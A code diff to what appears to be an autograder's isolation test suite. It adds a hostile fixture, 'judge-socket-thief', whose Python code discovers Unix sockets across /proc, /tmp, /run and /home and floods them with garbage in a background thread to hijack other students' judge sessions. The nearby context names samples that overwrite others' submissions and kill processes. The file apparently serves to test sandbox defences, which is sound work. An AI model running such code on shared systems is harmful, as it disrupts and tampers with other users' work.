@@ -445,6 +445,40 @@ for _d in _places:
             pass
 print('planted', len(_planted), 'files:', _planted)
 """, honest_score=4.0, correct=True),
+    Leftover("judge-socket-thief", 5,
+             "a thread that every 50 ms connects to every Unix socket it can find (`/proc/net/unix`, `*.sock` and "
+             "`judge*` under `/tmp`, `/run`, `/home`, `/dev/shm`) and sends garbage, to claim another student's judge "
+             "window; it reports the judge sockets it saw",
+             """
+import json, os, socket, threading, time
+def _sockets():
+    paths = set()
+    try:
+        for line in open('/proc/net/unix').read().splitlines()[1:]:
+            parts = line.split()
+            if len(parts) >= 8:
+                paths.add(parts[7])
+    except OSError:
+        pass
+    for root in ('/tmp', '/run', '/var/run', '/home', '/dev/shm'):
+        for folder, dirs, files in os.walk(root):
+            paths.update(os.path.join(folder, n) for n in files + dirs if n.endswith('.sock') or 'judge' in n)
+    return paths
+print('JUDGES ' + json.dumps(sorted(p for p in _sockets() if 'judge' in p)), flush=True)
+def _thief():
+    while True:
+        for path in _sockets():
+            try:
+                s = socket.socket(socket.AF_UNIX)
+                s.settimeout(0.2)
+                s.connect('\\0' + path[1:] if path.startswith('@') else path)
+                s.sendall(b'\\0' * 64)
+                s.close()
+            except OSError:
+                pass
+        time.sleep(0.05)
+threading.Thread(target=_thief, daemon=True).start()
+"""),
     Leftover("cross-writer", 5,
              "overwrites another student's submission, result, stamp and feedback, the gradebook, the "
              "checkout's sources, references and `cs_lib`, at their real paths; SIGKILLs every process it sees",
